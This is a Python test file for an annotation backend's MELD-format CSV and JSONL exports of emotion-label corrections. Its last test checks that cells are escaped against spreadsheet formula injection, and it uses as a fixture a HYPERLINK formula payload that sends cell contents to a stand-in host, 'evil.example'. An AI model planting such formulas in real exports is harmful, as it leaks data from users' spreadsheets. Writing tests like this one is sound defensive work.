"""MELD-format CSV and JSONL exports of corrections."""

from __future__ import annotations

import csv
import io
import json

import pytest

from backend.exports import MELD_HEADER, SENTIMENT, jsonl, meld_csv, meld_time
from backend.meld_csv import parse_meld_csv


def row(
    annotation_id,
    turn_id,
    label,
    annotator="ann",
    *,
    dialogue_id=7,
    index=None,
    text="Hi.",
    start=1.25,
    end=2.5,
    note="",
    is_current=False,
):
    return {
        "annotation_id": annotation_id,
        "turn_id": turn_id,
        "label": label,
        "annotator": annotator,
        "note": note,
        "created_at": f"2025-01-01T00:00:0{annotation_id}+00:00",
        "adjudicated": False,
        "is_current": is_current,
        "dialogue_id": dialogue_id,
        "media_sha256": "ab" * 32,
        "index": turn_id if index is None else index,
        "speaker": "Ross",
        "start": start,
        "end": end,
        "text": text,
        "predictions": {"mister-e": {"version": "v1", "label": "joy", "probs": {"joy": 1.0}}},
    }


QUOTED = 'She said "no", then left,\nslowly.'
ROWS = [
    row(1, 2, "anger", text=QUOTED, note="first pass"),
    row(2, 1, "surprise", "bob", start=None, end=None, is_current=True),
    row(3, 2, "sadness", "bob", text=QUOTED, is_current=True),
    row(4, 0, "joy", dialogue_id=3, start=3725.5, end=3726.0, is_current=True),
]


@pytest.mark.parametrize(
    "seconds, text", [(None, ""), (0.3, "00:00:00,300"), (3725.5, "01:02:05,500"), (59.9996, "00:01:00,000")]
)
def test_meld_time(seconds, text):
    assert meld_time(seconds) == text


def test_meld_csv_has_one_row_per_turn_with_its_latest_label():
    text = meld_csv(ROWS)
    records = list(csv.DictReader(io.StringIO(text)))
    assert tuple(records[0]) == MELD_HEADER
    assert [(r["Dialogue_ID"], r["Utterance_ID"], r["Emotion"], r["Sentiment"]) for r in records] == [
        ("3", "0", "joy", "positive"),
        ("7", "1", "surprise", ""),
        ("7", "2", "sadness", "negative"),
    ]
    assert [r["Sr No."] for r in records] == ["1", "2", "3"]
    assert records[1]["StartTime"] == "" and records[1]["Season"] == "" and records[1]["Episode"] == ""
    assert records[2]["Utterance"] == QUOTED


def test_meld_csv_reads_back_with_the_project_meld_reader():
    dialogues = parse_meld_csv(meld_csv([r for r in ROWS if r["start"] is not None]), "export.csv")
    turn = dialogues[7][2].turn
    assert (turn.label, turn.speaker, turn.start, turn.end) == ("sadness", "Ross", 1.25, 2.5)
    assert dialogues[3][0].turn.start == 3725.5


def test_meld_header_matches_the_real_corpus(meld_dir):
    with open(meld_dir / "dev_sent_emo.csv", encoding="utf-8") as f:
        assert tuple(next(csv.reader(f))) == MELD_HEADER


def test_sentiment_map_covers_every_label_but_surprise():
    from backend.labels import MELD7

    assert set(SENTIMENT) == set(MELD7) - {"surprise"}


def test_jsonl_keeps_everything_with_history():
    records = [json.loads(line) for line in jsonl(ROWS).splitlines()]
    assert [(r["dialogue_id"], r["index"]) for r in records] == [(3, 0), (7, 1), (7, 2)]
    last = records[2]
    assert (last["label"], last["annotator"], last["text"]) == ("sadness", "bob", QUOTED)
    assert [(h["label"], h["annotator"], h["note"], h["is_current"]) for h in last["history"]] == [
        ("anger", "ann", "first pass", False),
        ("sadness", "bob", "", True),
    ]
    assert last["predictions"]["mister-e"]["label"] == "joy"
    assert jsonl([]) == "" and meld_csv([]).strip() == ",".join(MELD_HEADER)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_meld_csv_cells_cannot_be_read_as_formulas(start):
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [
        {**row(1, 0, "joy", text=payload), "speaker": f"{start}1+2"},
        row(2, 1, "anger", text="-5 degrees"),
    ]
    records = list(csv.DictReader(io.StringIO(meld_csv(rows), newline="")))
    assert (records[0]["Utterance"], records[0]["Speaker"]) == ("'" + payload, f"'{start}1+2")
    assert records[1]["Utterance"] == "'-5 degrees"
    assert records[1]["Speaker"] == "Ross" and records[1]["Sr No."] == "2", "other cells are unchanged"
    assert json.loads(jsonl(rows).splitlines()[0])["text"] == payload, "JSONL keeps the text as it is"
